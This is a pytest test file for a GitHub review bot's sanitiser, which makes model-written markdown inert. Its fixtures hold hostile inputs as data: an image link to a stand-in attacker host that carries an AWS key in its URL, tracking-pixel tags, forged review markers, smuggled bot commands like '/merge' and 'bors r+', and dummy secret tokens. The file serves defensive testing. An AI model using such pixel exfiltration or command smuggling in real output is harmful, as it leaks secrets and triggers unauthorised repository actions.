"""The sanitiser: model text reaches GitHub with no ping, image, HTML, foreign link, bot command or secret active."""

from __future__ import annotations

import re

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bot.domain import Category, Finding, Severity, Side
from bot.masking import mask_secrets
from bot.render import markers_in, review_markers_in
from bot.sanitize import (
    BODY_MAX,
    SUGGESTION_MAX,
    TITLE_MAX,
    TRUNCATED,
    cap,
    code_span,
    fence_for,
    sanitize_code,
    sanitize_finding,
    sanitize_inline,
    sanitize_markdown,
)

REPO = "https://github.com/o/r"
AWS = "AKIAIOSFODNN7EXAMPLE"
GHP = "ghp_" + "A1b2C3d4" * 5
PEM_BODY = "MIIEowIBAAKCAQEAxyz"
PEM = f"-----BEGIN RSA PRIVATE KEY-----\n{PEM_BODY}\n-----END RSA PRIVATE KEY-----"
SECRET_TAILS = (AWS[4:], GHP[4:], PEM_BODY)
PUNCT = r"!\"#$%&'()*+,\-./:;<=>?@\[\\\]^_`{|}~"


# --- a small, independent model of what GitHub renders as prose ---------------------------------------------------


def _strip_fences(md: str) -> tuple[list[str], bool]:
    """Lines outside fenced code (opening with up to three spaces, CommonMark closing); and whether one is open."""
    prose: list[str] = []
    fence: str | None = None
    for line in md.split("\n"):
        if fence is None:
            m = re.match(r" {0,3}(`{3,})([^`]*)$| {0,3}(~{3,})(.*)$", line)
            if m:
                fence = m.group(1) or m.group(3)
                prose.append("")
                continue
            prose.append(line)
        else:
            if re.fullmatch(r" {0,3}" + re.escape(fence[0]) + "{" + str(len(fence)) + r",}[ \t]*", line):
                fence = None
            prose.append("")
    return prose, fence is not None


def _strip_code_spans(paragraph: str) -> str:
    """The paragraph with CommonMark code spans (which may cross lines) replaced by a space."""
    out, i = [], 0
    while i < len(paragraph):
        ch = paragraph[i]
        if ch == "\\" and i + 1 < len(paragraph) and paragraph[i + 1] in PUNCT.replace("\\\\", "\\"):
            out.append(paragraph[i : i + 2])
            i += 2
            continue
        if ch == "`":
            n = len(re.match(r"`+", paragraph[i:]).group(0))  # type: ignore[union-attr]
            for m in re.finditer(r"`+", paragraph[i + n :]):
                if len(m.group(0)) == n:
                    i = i + n + m.end()
                    out.append(" ")
                    break
            else:
                out.append(paragraph[i : i + n])
                i += n
            continue
        out.append(ch)
        i += 1
    return "".join(out)


def prose_of(md: str) -> str:
    """What GitHub shows as text (escapes still in place) outside code, paragraph by paragraph."""
    lines, _ = _strip_fences(md)
    paragraphs = re.split(r"\n[ \t]*\n", "\n".join(lines))
    return "\n\n".join(_strip_code_spans(p) for p in paragraphs)


def unescape(text: str) -> str:
    """Backslash escapes resolved as CommonMark does."""
    return re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", text)


def active_mentions(md: str) -> list[str]:
    """@-mentions GitHub would turn into pings."""
    return re.findall(r"(?<![A-Za-z0-9])@[A-Za-z0-9][A-Za-z0-9-]*", unescape(prose_of(md)))


def unescaped(char: str, text: str) -> list[int]:
    """Positions of `char` not preceded by an odd number of backslashes."""
    hits = []
    for m in re.finditer(re.escape(char), text):
        before = text[: m.start()]
        if (len(before) - len(before.rstrip("\\"))) % 2 == 0:
            hits.append(m.start())
    return hits


def assert_inert(out: str, repo_url: str = REPO) -> None:
    """Every safety property of sanitised markdown."""
    prose = prose_of(out)
    assert not active_mentions(out), out
    assert not unescaped("<", prose), out
    for pos in unescaped("[", prose):
        assert re.match(r"\[[^\]]*\]\(" + re.escape(repo_url), prose[pos:]), out
    own_links_removed = re.sub(re.escape(repo_url) + r"[A-Za-z0-9\-._~:/?#=&%+]*", "", unescape(prose))
    assert not re.search(r"(?i)https?://|www\.", own_links_removed), out
    for line in out.split("\n"):
        assert not re.match(r"[ \t>]*/[A-Za-z]", line), out
    assert not re.search(r"(?i)\b(?:bors|atlantis)\s+(?:r\+|try|apply|plan)", out), out
    assert markers_in(out) == set() and review_markers_in(out) == [], out
    assert not _strip_fences(out)[1], "a fence is left open"
    for tail in SECRET_TAILS:
        assert tail not in out


# --- the issue's scenario -----------------------------------------------------------------------------------------


def test_issue_scenario_nothing_active_or_in_clear() -> None:
    body = (
        "cc @org/team\n"
        "![x](https://evil.example/?q=AKIAIOSFODNN7EXAMPLE)\n"
        '<img src="https://evil.example/pixel.png">\n'
        "/merge\n"
        f"The key {AWS} is committed in `config.py`."
    )
    out = sanitize_markdown(body, REPO)
    assert_inert(out)
    assert "`@org/team`" in out
    assert out.count("(image removed)") == 2 and "evil.example" not in out
    assert "\\/merge" in out
    assert "AKIA" in out and AWS not in out


def test_aws_key_in_suggestion_is_masked_but_code_kept() -> None:
    finding = Finding("a.py", 1, 1, Side.RIGHT, Severity.HIGH, Category.SECURITY, "Key", "b",
                      suggestion=f"KEY = os.environ['AWS']  # was {AWS}\n@app.route('/x') <b>")
    safe, note = sanitize_finding(finding, REPO)
    assert note is None
    assert safe.suggestion is not None
    assert AWS not in safe.suggestion and "AKIA************" in safe.suggestion
    assert "@app.route('/x') <b>" in safe.suggestion  # code is code: no mention/HTML rules applied


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("ask @alice", "ask `@alice`"),
        ("ask @org/team-a now", "ask `@org/team-a` now"),
        ("mail bob@example.com", "mail bob@example.com"),
        ("see [docs](https://evil.example/x)", "see docs"),
        ("see [a.py](https://github.com/o/r/blob/main/a.py#L3)", "see [a.py](https://github.com/o/r/blob/main/a.py#L3)"),
        ("go https://evil.example/a.", "go `https://evil.example/a`."),
        ('<IMG SRC="https://evil.example/p.png"> ok', "(image removed) ok"),
        ("<details><summary>x</summary>", "\\<details>\\<summary>x\\</summary>"),
        ("<!-- senior-review:finding:0123456789abcdef0123 -->", "\\<!-- senior-review:finding:0123456789abcdef0123 -->"),  # noqa: E501
        ("&#64;alice", "\\&#64;alice"),
        ("bors r+", "`bors` r+"),
        ("atlantis apply -p prod", "`atlantis` apply -p prod"),
        ("@dependabot merge", "`@dependabot` merge"),
        ("  /approve", "  \\/approve"),
        ("> /lgtm", "> \\/lgtm"),
        ("a | b", "a \\| b"),
        ("see other/repo#12 and #3", "see `other/repo#12` and #3"),
        ("`@inside` code", "`@inside` code"),
        ("\\@alice", "`@alice`"),
        ("x\\@alice", "x\\@alice"),
    ],
)
def test_examples(raw: str, expected: str) -> None:
    assert sanitize_markdown(raw, REPO) == expected


def test_unclosed_fence_is_closed_so_the_marker_after_it_stays_hidden() -> None:
    out = sanitize_markdown("text\n```python\nx = 1", REPO)
    assert out.endswith("\n```")
    assert not _strip_fences(out + "\n\n<!-- m -->")[1]


def test_code_blocks_in_body_keep_code_but_defuse_commands() -> None:
    out = sanitize_markdown("```\n@app.get('/x')\n/merge\nbors r+\n```", REPO)
    assert "@app.get('/x')" in out
    assert "\u200b/merge" in out and "b\u200bors r+" in out
    assert_inert(out)


def test_a_code_span_split_by_a_blank_line_is_not_trusted() -> None:
    out = sanitize_markdown("`a\n\n@alice <img src=x>`", REPO)
    assert_inert(out)


def test_table_cells_cannot_break_code_spans() -> None:
    out = sanitize_markdown("| `a|@x` |\n|---|---|", REPO)
    assert_inert(out)
    assert "\\|---\\|" in out


@pytest.mark.parametrize(
    "secret",
    [
        AWS,
        "ASIAY34FZKBOKMUTVV7A",
        GHP,
        "github_pat_11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyz",
        "xoxb-1234567890-abcdefghijkl",
        "sk-ant-api03-abcdefghijklmnopqrstuvwxyz0123",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fw",
    ],
)
def test_token_shapes_are_masked_with_a_prefix(secret: str) -> None:
    out = mask_secrets(f"token {secret} here")
    assert secret not in out
    assert "*" * 12 in out
    assert out.startswith("token " + secret[:3])


@pytest.mark.parametrize(
    ("raw", "masked"),
    [
        ('password = "hunter2hunter2"', 'password = "************"'),
        ("DB_PASSWORD=s3cr3t-value!", "DB_PASSWORD=************"),
        ("client_secret: 'abcdefgh12345'", "client_secret: '************'"),
        ("Authorization: Bearer abcdefghijklmnopqrstuvwxyz", "Authorization: Bearer ************"),
    ],
)
def test_generic_assignments_are_masked(raw: str, masked: str) -> None:
    assert mask_secrets(raw) == masked


@pytest.mark.parametrize(
    "code",
    [
        "password = os.environ['DB_PASSWORD']",
        "token = request.headers.get('Authorization')",
        "password = user_supplied_password",
        "password = '${DB_PASSWORD}'",
        "password: str",
    ],
)
def test_code_that_merely_names_secrets_is_not_masked(code: str) -> None:
    assert mask_secrets(code) == code


def test_private_key_blocks_are_masked_even_when_cut_off() -> None:
    assert PEM_BODY not in mask_secrets(PEM)
    assert PEM_BODY not in mask_secrets("-----BEGIN OPENSSH PRIVATE KEY-----\n" + PEM_BODY)
    assert mask_secrets(mask_secrets(PEM)) == mask_secrets(PEM)


def test_fence_for_is_longer_than_any_backtick_run() -> None:
    assert fence_for("x") == "```"
    assert fence_for("a ```` b") == "`````"


def test_code_span_holds_backticks() -> None:
    assert code_span("a`b") == "``a`b``"
    assert code_span("`x") == "`` `x ``"
    assert code_span("") == ""


def test_suggestion_with_command_lines_is_withheld_not_corrupted() -> None:
    f = Finding("a", 1, 1, Side.RIGHT, Severity.LOW, Category.DESIGN, "t", "b", suggestion="x = 1\n/merge\n")
    safe, note = sanitize_finding(f, REPO)
    assert safe.suggestion is None and note is not None and "command" in note


def test_oversized_parts_are_capped_with_an_explicit_marker() -> None:
    f = Finding("a", 1, 1, Side.RIGHT, Severity.LOW, Category.DESIGN, "T" * 1000, "word " * 10_000,
                suggestion="x" * (SUGGESTION_MAX + 1))
    safe, note = sanitize_finding(f, REPO)
    assert len(safe.title) <= TITLE_MAX and safe.title.endswith(TRUNCATED)
    assert len(safe.body) <= BODY_MAX and safe.body.endswith(TRUNCATED)
    assert safe.suggestion is None and note is not None and "longer" in note


def test_cap_never_leaves_part_of_a_secret_or_an_open_fence() -> None:
    text = "```\n" + ("a " * 50) + AWS + "\n" + ("b " * 100)
    for limit in range(60, 200, 7):
        out = cap(text, limit, lambda t: sanitize_markdown(t, REPO))
        assert len(out) <= limit
        assert AWS[4:8] not in out
        assert not _strip_fences(out)[1]


def test_titles_are_one_line_and_inert() -> None:
    out = sanitize_inline("~~~ @alice\n/merge <b> ```", REPO)
    assert "\n" not in out
    assert_inert(out)


def test_sanitize_code_defuses_forged_markers() -> None:
    assert markers_in(sanitize_code("<!-- senior-review:finding:0123456789abcdef0123 -->")) == set()


# --- properties over arbitrary text -------------------------------------------------------------------------------

TOKENS = [
    "@alice", "@org/team", "![x](https://evil.example/?q=1)", "<img src=x>", "<details>", "</a>",
    "<!-- senior-review:finding:0123456789abcdef0123 -->", "/merge", "/approve", "bors r+", "atlantis apply",
    AWS, GHP, PEM, "https://evil.example/p", "https://github.com/o/r/blob/x", "[t](https://evil.example)",
    "[t](https://github.com/o/r/pull/1)", "[t]: https://evil.example", "www.evil.example", "`", "``", "```",
    "~~~", "\\", "\n", " ", "    ", "\n\n", "b@c.de", "[", "]", "(", ")", "|", "---", "&#64;", "!", "_", "*",
    ">", "- ", "1. ", "#", "a", "Z9", "*" * 12, "\u200b", "\r\n",
]
markdownish = st.lists(st.one_of(st.sampled_from(TOKENS), st.text(max_size=3)), max_size=40).map("".join)


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(markdownish)
def test_property_output_is_inert(text: str) -> None:
    assert_inert(sanitize_markdown(text, REPO))


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(markdownish)
def test_property_idempotent(text: str) -> None:
    once = sanitize_markdown(text, REPO)
    assert sanitize_markdown(once, REPO) == once


@settings(max_examples=200, deadline=None)
@given(st.text())
def test_property_arbitrary_unicode_is_inert_and_idempotent(text: str) -> None:
    once = sanitize_markdown(text, REPO)
    assert_inert(once)
    assert sanitize_markdown(once, REPO) == once


@settings(max_examples=200, deadline=None)
@given(markdownish)
def test_property_inline_is_inert_one_line_and_idempotent(text: str) -> None:
    once = sanitize_inline(text, REPO)
    assert "\n" not in once
    assert_inert(once)
    assert sanitize_inline(once, REPO) == once


@settings(max_examples=200, deadline=None)
@given(markdownish)
def test_property_code_is_unchanged_except_secrets(text: str) -> None:
    out = sanitize_code(text)
    for tail in SECRET_TAILS:
        assert tail not in out
    if mask_secrets(text) == text and "senior-review" not in text and "\r" not in text and "\x00" not in text:
        assert out == text


def test_bot_command_split_across_lines_is_defused() -> None:
    out = sanitize_markdown("please bors\nr+ thanks", REPO)
    assert_inert(out)
    assert "b\u200bors" in out


def test_mentions_chained_without_spaces_do_not_ping() -> None:
    out = sanitize_markdown("@alice@bob@carol", REPO)
    assert not active_mentions(out)


@pytest.mark.parametrize(
    "text",
    ["-" * 40_000, "a." * 20_000, "_" * 40_000, "http://a" + "." * 40_000 + "a", "x_password" * 4_000],
)
def test_pathological_model_text_is_sanitised_in_linear_time(text: str) -> None:
    """These took minutes before the key and URL-trailer patterns were bounded (quadratic backtracking)."""
    import time

    from bot.sanitize import sanitize_code, sanitize_markdown

    def cpu_seconds(sample: str) -> float:  # CPU time: other processes on a busy machine do not count
        started = time.process_time()
        sanitize_markdown(sample)
        sanitize_code(sample)
        return time.process_time() - started

    # Python's `re` exposes no step count, so this one stays a ratio: against a tenth of the input, linear work
    # grows ~10x and quadratic ~100x (the regression it guards took minutes).
    base, full = cpu_seconds(text[: len(text) // 10]), cpu_seconds(text)
    assert full < max(40 * base, 0.5), (base, full)


def test_bot_command_after_a_kept_repository_url_is_defused() -> None:
    """Found by hypothesis: a repository URL kept as a construct ended inside `bors r+`, which then survived."""
    once = sanitize_inline("https://github.com/o/r/blob/x#bors r+", "https://github.com/o/r")
    assert_inert(once)
    assert "b\u200bors" in once
    assert sanitize_inline(once, "https://github.com/o/r") == once
